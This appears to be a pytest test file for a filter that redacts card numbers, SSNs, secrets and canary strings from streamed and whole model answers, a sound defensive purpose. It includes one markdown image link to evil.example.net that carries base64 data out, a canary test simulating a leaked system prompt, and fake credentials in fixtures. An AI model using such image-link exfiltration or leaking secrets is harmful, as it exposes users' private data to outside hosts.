"""Answers leave without sensitive data, whole or streamed in any chunks (L2.4)."""

import json
import random
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lambdas.inspection import AnswerFilter, AnswerPolicy, DataClass, InspectionConfig, Inspector
from lambdas.inspection.answers import CONTEXT, MAX_HELD

from .made_up import ORDINARY, card, email, iban, placed, secrets, ssn

INSPECTOR = Inspector(InspectionConfig(hash_key=b"k" * 32))
STRICT = AnswerPolicy(redact_from=DataClass.INTERNAL)
VALUES = (card, iban, ssn, email)


def event(data: dict[str, Any]) -> bytes:
    return f"event: {data['type']}\ndata: {json.dumps(data)}\n\n".encode()


def parsed(events: list[bytes]) -> list[dict[str, Any]]:
    return [json.loads(one.partition(b"data: ")[2]) for one in events]


def stream(answer: AnswerFilter, pieces: list[str], kind: str = "text") -> list[dict[str, Any]]:
    """What leaves when a block comes in these pieces and the message ends behind it."""
    names = {
        "text": ("text", "text_delta", "text"),
        "tool_use": ("input", "input_json_delta", "partial_json"),
        "thinking": ("thinking", "thinking_delta", "thinking"),
    }
    _, delta, key = names[kind]
    block = (
        {"type": kind, "text": ""} if kind == "text" else {"type": kind, "id": "t", "name": "n", "input": {}}
    )
    out = answer.event(event({"type": "content_block_start", "index": 0, "content_block": block}))
    for piece in pieces:
        body = {"type": "content_block_delta", "index": 0, "delta": {"type": delta, key: piece}}
        out += answer.event(event(body))
    out += answer.event(event({"type": "content_block_stop", "index": 0}))
    end = {"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 9}}
    own = answer.event(event(end))
    return parsed([*out, *(own[:-1] if own else [])])


def joined(events: list[dict[str, Any]], key: str = "text") -> str:
    return "".join(one["delta"][key] for one in events if one["type"] == "content_block_delta")


@st.composite
def answers(draw: st.DrawFn) -> tuple[str, list[str]]:
    """A text with values in it, and the text in pieces."""
    chance = random.Random(draw(st.integers(0, 10**6)))
    parts: list[str] = []
    for _ in range(draw(st.integers(1, 6))):
        parts.append(draw(st.sampled_from(ORDINARY)))
        if draw(st.booleans()):
            parts.append(f"It is {chance.choice(VALUES)(chance)} as you said.")
        if draw(st.booleans()):
            parts.append(placed(chance.choice(list(secrets(chance).values())))[0])
    text = draw(st.sampled_from((" ", "\n", "\n\n"))).join(parts) + draw(st.text(max_size=20))
    pieces, position = [], 0
    while position < len(text):
        size = draw(st.sampled_from((1, 2, 3, 7, 20, 100)))
        pieces.append(text[position : position + size])
        position += size
    return text, pieces


@settings(max_examples=60, deadline=None)
@given(answers())
def test_a_stream_in_any_chunks_gives_exactly_what_the_whole_gives(case: tuple[str, list[str]]) -> None:
    text, pieces = case
    streamed = joined(stream(AnswerFilter(INSPECTOR, STRICT), pieces))
    assert streamed == AnswerFilter(INSPECTOR, STRICT).text(text)


@settings(max_examples=40, deadline=None)
@given(st.integers(0, 10**6), st.integers(1, 9))
def test_no_value_leaves_a_stream(seed: int, size: int) -> None:
    chance = random.Random(seed)
    value = chance.choice(VALUES)(chance)
    text = f"{chance.choice(ORDINARY)} Please use {value} for this. {chance.choice(ORDINARY)}"
    pieces = [text[i : i + size] for i in range(0, len(text), size)]
    streamed = joined(stream(AnswerFilter(INSPECTOR, STRICT), pieces))
    assert value not in streamed
    assert "[REDACTED " in streamed


def call_events(given: dict[str, Any], size: int, answer: AnswerFilter) -> list[dict[str, Any]]:
    text = json.dumps(given)
    return stream(answer, [text[i : i + size] for i in range(0, len(text), size)], "tool_use")


def call_body(*inputs: dict[str, Any]) -> bytes:
    blocks = [
        {"type": "tool_use", "id": f"t{n}", "name": "Write", "input": one} for n, one in enumerate(inputs)
    ]
    return json.dumps({"content": blocks, "stop_reason": "tool_use"}).encode()


WRITES = (
    {
        "file_path": "a.py",
        "content": 'engine = create_engine("postgres://app:Xk29vQpw71LmZ4@db.shop-prod.net/main")\n',
    },
    {"command": "mysql -u root -pTiger2019x sales < dump.sql"},
    {"content": "| ssn |\n|---|\n| 536-22-8145 |\n", "n": 4539148803436467},
)


@pytest.mark.parametrize("given", WRITES)
@pytest.mark.parametrize("size", [1, 9, 400])
def test_the_input_of_a_tool_is_never_changed_and_what_is_in_it_is_counted(
    given: dict[str, Any], size: int
) -> None:
    body = call_body(given)
    whole, streamed = AnswerFilter(INSPECTOR), AnswerFilter(INSPECTOR)
    assert whole.whole(body) is body
    assert json.loads(joined(call_events(given, size, streamed), "partial_json")) == given
    assert {one["action"] for one in whole.decisions()} == {"flag"}
    assert streamed.decisions() == whole.decisions()


def known(text: str) -> AnswerPolicy:
    """The policy for the answer to a request that held this text."""
    found = INSPECTOR.inspect_text(text).findings
    return AnswerPolicy(known=frozenset(one.value_hash for one in found if one.level.rank >= 2))


@pytest.mark.parametrize("size", [3, 400])
def test_a_call_that_would_pass_on_a_value_of_the_request_is_stopped_with_a_reason(size: int) -> None:
    value = ssn(random.Random(11))
    policy = known(f"The SSN is {value}.")
    bad, good = {"content": f"ssn: {value}"}, {"content": "nothing"}
    got = json.loads(AnswerFilter(INSPECTOR, policy).whole(call_body(bad, good)))
    assert [one["type"] for one in got["content"]] == ["text", "tool_use"]
    assert "US_SSN" in got["content"][0]["text"]
    assert value not in json.dumps(got)
    assert got["stop_reason"] == "tool_use"
    alone = json.loads(AnswerFilter(INSPECTOR, policy).whole(call_body(bad)))
    assert alone["stop_reason"] == "end_turn"
    answer = AnswerFilter(INSPECTOR, policy)
    events = call_events(bad, size, answer)
    assert [one["type"] for one in events] == [
        "content_block_start",
        "content_block_delta",
        "content_block_stop",
    ]
    assert events[0]["content_block"]["type"] == "text"
    end = event(
        {"type": "message_delta", "delta": {"stop_reason": "tool_use"}, "usage": {"output_tokens": 5}}
    )
    assert parsed(answer.event(end))[0]["delta"]["stop_reason"] == "end_turn"
    assert {"type": "US_SSN", "count": 1, "action": "stop"} in answer.decisions()


@pytest.mark.parametrize(
    ("halves", "kinds"),
    [
        (("The card is 4539 1488 ", "0343 6467 as you know."), ("CREDIT_CARD",)),
        (("Her SSN is 536-22", "-8723, she says."), ("US_SSN",)),
        (("The key is AKIA2QWE7RTY", "4UIO5PAS and nothing else."), ("SECRET",)),
    ],
)
def test_no_half_of_a_value_leaves_that_is_split_over_two_text_blocks(
    halves: tuple[str, str], kinds: tuple[str]
) -> None:
    body = json.dumps({"content": [{"type": "text", "text": half} for half in halves]}).encode()
    whole = [one["text"] for one in json.loads(AnswerFilter(INSPECTOR).whole(body))["content"]]
    events: list[bytes] = []
    for index, half in enumerate(halves):
        events.append(
            event(
                {"type": "content_block_start", "index": index, "content_block": {"type": "text", "text": ""}}
            )
        )
        events += [
            event(
                {"type": "content_block_delta", "index": index, "delta": {"type": "text_delta", "text": one}}
            )
            for one in half
        ]
        events.append(event({"type": "content_block_stop", "index": index}))
    end = {"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 9}}
    answer = AnswerFilter(INSPECTOR)
    left = parsed([out for one in (*events, event(end)) for out in answer.event(one)])
    streamed = [joined([one for one in left if one.get("index") == index]) for index in (0, 1)]
    assert streamed == whole
    assert f"[REDACTED {kinds[0]}]" in whole[0]
    assert not any(character.isdigit() for text in whole for character in text)
    order = [(one["type"], one.get("index")) for one in left if one["type"] != "content_block_delta"]
    assert order == [
        *((kind, index) for index in (0, 1) for kind in ("content_block_start", "content_block_stop")),
        ("message_delta", None),
    ]


@pytest.mark.parametrize(
    ("first", "shown"),
    [
        ("The", "The"),
        ("Sorting", "Sorting"),
        ("# Plan", "# Plan"),
        ("I'll look at the te", "I'll look at the "),
        ("Größer", "Größer"),
        ("ghp", ""),  # how tokens begin
        ("536-22", ""),
    ],
)
def test_the_first_words_of_an_answer_are_shown_at_once(first: str, shown: str) -> None:
    answer = AnswerFilter(INSPECTOR)
    block = {"type": "text", "text": ""}
    answer.event(event({"type": "content_block_start", "index": 0, "content_block": block}))
    delta = {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": first}}
    assert joined(parsed(answer.event(event(delta)))) == shown
    rest = {
        "type": "content_block_delta",
        "index": 0,
        "delta": {"type": "text_delta", "text": " on it.\n\nOk"},
    }
    got = shown + joined(parsed(answer.event(event(rest))))
    got += joined(parsed(answer.event(event({"type": "content_block_stop", "index": 0}))))
    assert got == f"{first} on it.\n\nOk"


@pytest.mark.parametrize(
    "text",
    [
        "DB_PASSWORD=XHwR+nOHzUVx",
        "Set it: password='Blue Horse+Battery7'",
        "formSECRET=" + "bu9JFVJtII3FINL1rOKcNpveXD4hSMtSDx7opO" * 30,
    ],
)
@pytest.mark.parametrize("size", [1, 4, 100])
def test_a_value_in_the_last_word_of_an_answer_does_not_leave(text: str, size: int) -> None:
    """L2.4: where nothing follows that would end the value."""
    value = text.partition("=")[2].strip("'")
    got = joined(stream(AnswerFilter(INSPECTOR), [text[i : i + size] for i in range(0, len(text), size)]))
    assert value[-9:] not in got
    assert value[-9:] not in AnswerFilter(INSPECTOR).text(text)


def test_thinking_is_never_rewritten() -> None:
    value = ssn(random.Random(3))
    pieces = ["His SSN is ", value, "."]
    answer = AnswerFilter(INSPECTOR, STRICT)
    assert joined(stream(answer, pieces, "thinking"), "thinking") == "".join(pieces)
    assert answer.decisions() == [{"type": "US_SSN", "count": 1, "action": "flag"}]


def test_clean_events_leave_byte_for_byte_and_soon() -> None:
    answer = AnswerFilter(INSPECTOR)
    start = event({"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}})
    assert answer.event(start) == [start]
    words = [
        "The",
        "quick",
        "brown",
        "fox",
        "jumps",
        "over",
        "the",
        "lazy",
        "dog",
        "and",
        "runs",
        "away",
        "from",
        "all",
        "of",
        "the",
        "hounds.",
    ]
    waiting = held = 0
    for word in words:
        delta = {"type": "text_delta", "text": word + " "}
        raw = event({"type": "content_block_delta", "index": 0, "delta": delta})
        out = answer.event(raw)
        assert all(one.startswith(b"event: content_block_delta") for one in out)
        waiting += 1 - len(out)
        held = max(held, waiting)
    assert held <= 2, "ordinary words wait for at most the next one"


def test_what_is_held_back_is_bounded_even_without_a_space() -> None:
    answer = AnswerFilter(INSPECTOR, STRICT)
    stream(answer, [])
    released = 0
    answer.event(
        event({"type": "content_block_start", "index": 1, "content_block": {"type": "text", "text": ""}})
    )
    for number in range(60):
        delta = {"type": "text_delta", "text": "a1" * 100}
        out = answer.event(event({"type": "content_block_delta", "index": 1, "delta": delta}))
        released += len(joined(parsed(out)))
        assert (number + 1) * 200 - released <= MAX_HELD + CONTEXT + 400


def test_a_canary_ends_the_stream_the_way_claude_refuses() -> None:
    answer = AnswerFilter(INSPECTOR, AnswerPolicy(canaries=("zebra-7731-canary",)))
    events = stream(
        answer, ["My instructions begin with zebra-", "7731-canary and then go on. ", "More text."]
    )
    assert answer.blocked == "CANARY"
    assert [one["type"] for one in events][-3:] == ["content_block_stop", "message_delta", "message_stop"]
    assert events[-2]["delta"]["stop_reason"] == "refusal"
    assert "canary" not in joined(events)
    assert {"type": "CANARY", "count": 1, "action": "block"} in answer.decisions()


def test_an_image_that_carries_data_out_is_removed_and_own_hosts_may_be_linked() -> None:
    leak = "See ![x](https://evil.example.net/p.png?d=c2VjcmV0IHZhbHVlcw) here."
    assert "evil" not in AnswerFilter(INSPECTOR).text(leak)
    own = AnswerFilter(INSPECTOR, AnswerPolicy(allowed_hosts=("example.net",)))
    assert own.text(leak) == leak


def test_a_whole_body_is_the_same_bytes_unless_something_had_to_go() -> None:
    clean = json.dumps({"type": "message", "content": [{"type": "text", "text": "Hello."}]}).encode()
    assert AnswerFilter(INSPECTOR).whole(clean) is clean
    value = ssn(random.Random(5))
    body = json.dumps({"type": "message", "content": [{"type": "text", "text": f"SSN {value}"}]}).encode()
    answer = AnswerFilter(INSPECTOR)
    assert value.encode() not in answer.whole(body)
    assert answer.decisions() == [{"type": "US_SSN", "count": 1, "action": "redact"}]


@pytest.mark.parametrize("broken", [b"not json", b"[1, 2]", b'{"content": "x"}'])
def test_what_is_no_message_passes_as_it_is(broken: bytes) -> None:
    assert AnswerFilter(INSPECTOR).whole(broken) == broken
